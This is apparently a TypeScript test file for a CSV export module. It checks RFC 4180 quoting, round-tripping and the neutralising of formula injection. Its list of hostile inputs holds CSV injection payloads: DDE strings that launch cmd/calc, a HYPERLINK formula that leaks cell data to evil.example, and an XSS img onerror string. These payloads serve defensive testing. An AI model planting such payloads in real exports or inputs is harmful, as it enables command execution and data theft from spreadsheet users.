/**
 * CSV exports (src/model/csv.ts): RFC 4180 quoting that round-trips, and no
 * formula injection from hostile device, setting or operator names.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvDocument, csvRecord, parseCsv } from '../../src/model/csv.js';

const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

const HOSTILE = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  'DDE ("cmd";"/C calc";"!A0")A0',
  'Studio, "A" rack\r\nline two',
  '"quoted"',
  '',
  '<img src=x onerror=alert(1)>',
];

describe('CSV cells', () => {
  it('neutralises every formula start in text with a leading apostrophe', () => {
    for (const name of HOSTILE) {
      const [cell] = parseCsv(csvRecord([name]) + '\r\n')[0]!;
      expect(FORMULA.test(cell!)).toBe(false);
      expect(cell).toBe(FORMULA.test(name) ? `'${name}` : name);
    }
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('-25')).toBe("'-25");
  });

  it('writes the console\'s own numbers and booleans as they are', () => {
    expect(csvCell(-25)).toBe('-25');
    expect(csvCell(22.5)).toBe('22.5');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
  });

  it('quotes fields with commas, quotes, CR or LF and doubles their quotes (RFC 4180)', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('=a,b')).toBe(`"'=a,b"`);
    expect(csvCell('plain')).toBe('plain');
  });

  it('round-trips any text through a document, never starting a cell with a formula character', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.oneof(fc.string(), fc.constantFrom(...HOSTILE), fc.string({ unit: 'grapheme' })), { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 8 }), (rows) => {
        const width = rows[0]!.length;
        const table = rows.map((r) => Array.from({ length: width }, (_, i) => r[i] ?? ''));
        const doc = csvDocument(
          table[0]!.map((_, i) => `c${i}`),
          table,
        );
        expect(doc.startsWith('\uFEFF')).toBe(true);
        expect(doc.endsWith('\r\n')).toBe(true);
        const parsed = parseCsv(doc);
        expect(parsed).toHaveLength(table.length + 1);
        parsed.slice(1).forEach((cells, r) => {
          expect(cells).toHaveLength(width);
          cells.forEach((cell, i) => {
            const original = table[r]![i]!;
            expect(FORMULA.test(cell)).toBe(false);
            expect(cell).toBe(FORMULA.test(original) ? `'${original}` : original);
          });
        });
      }),
      { numRuns: 500 },
    );
  });
});
